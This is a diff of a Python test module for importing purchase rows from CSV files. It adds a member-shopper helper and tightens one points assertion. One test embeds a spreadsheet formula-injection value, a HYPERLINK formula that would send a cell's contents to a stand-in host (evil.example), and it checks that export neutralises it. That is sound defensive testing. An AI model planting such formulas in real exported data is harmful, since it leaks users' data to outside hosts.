@@ -8,13 +8,14 @@ from sqlmodel import Session, select
 
 from domain.catalog.sheets import csv_text
 from domain.insights.export import cell
-from domain.purchases import waiting
+from domain.purchases import members
 from domain.purchases.imports import import_purchases
 from schemas.campaigns import Campaign
 from schemas.catalog import ImportReport
+from schemas.people import Shopper
 from schemas.purchases import Purchase
 from tests import make
-from tests.make.orders import a_partner, stands
+from tests.make.orders import a_partner, settle_due, stands
 
 HEADER = "order,channel,chain,phone,purchased_at,total,name,amount,quantity"
 FIRST = "A-1,till,WinMart,+84901234567,2026-11-29 12:00,285000,OMO Bột giặt 5.5kg,185000,1"
@@ -24,13 +25,20 @@ def bring(session: Session, *rows: str) -> ImportReport:
     return import_purchases(session, a_partner(session), io.StringIO("\n".join([HEADER, *rows])))
 
 
+def member(session: Session) -> Shopper:
+    """A shopper of whose joining the chore has heard."""
+    shopper = make.make_shopper(session)
+    members.note_phone(session, shopper.id)
+    return shopper
+
+
 def settle(session: Session) -> None:
-    while waiting.settle_due(session):
+    while settle_due(session):
         session.expire_all()
 
 
 def test_rows_of_one_order_are_one_purchase(session: Session, campaign: Campaign) -> None:
-    shopper = make.make_shopper(session)
+    shopper = member(session)
     report = bring(
         session, FIRST, "A-1,,,,,,OMO nước 3L,100000,2", FIRST.replace("A-1", "A-2").replace("12:00", "13:00")
     )
@@ -66,7 +74,7 @@ def test_one_bad_row_brings_nothing_in(session: Session, campaign: Campaign) -> 
 
 
 def test_a_file_is_taken_as_spreadsheets_write_it(session: Session, campaign: Campaign) -> None:
-    shopper = make.make_shopper(session)
+    shopper = member(session)
     name = '=HYPERLINK("http://evil.example/?"&A1,"OMO Bột giặt 5.5kg")'
     rows = "order;channel;chain;phone;purchased_at;total;name;amount\r\n" + ";".join(
         [
@@ -86,7 +94,7 @@ def test_a_file_is_taken_as_spreadsheets_write_it(session: Session, campaign: Ca
     settle(session)
 
     assert (report.rows, report.created, report.errors) == (2, 1, [])
-    assert stands(session, shopper) <= 285
+    assert stands(session, shopper) == 285
     assert cell(name).startswith("'")
 
 
@@ -99,7 +107,7 @@ def test_a_file_that_breaks_off_brings_nothing_in(session: Session, campaign: Ca
 
 
 def test_an_order_that_changed_is_named(session: Session, campaign: Campaign) -> None:
-    shopper = make.make_shopper(session)
+    shopper = member(session)
     bring(session, FIRST)
     report = bring(session, FIRST.replace("185000", "285000"))
     settle(session)
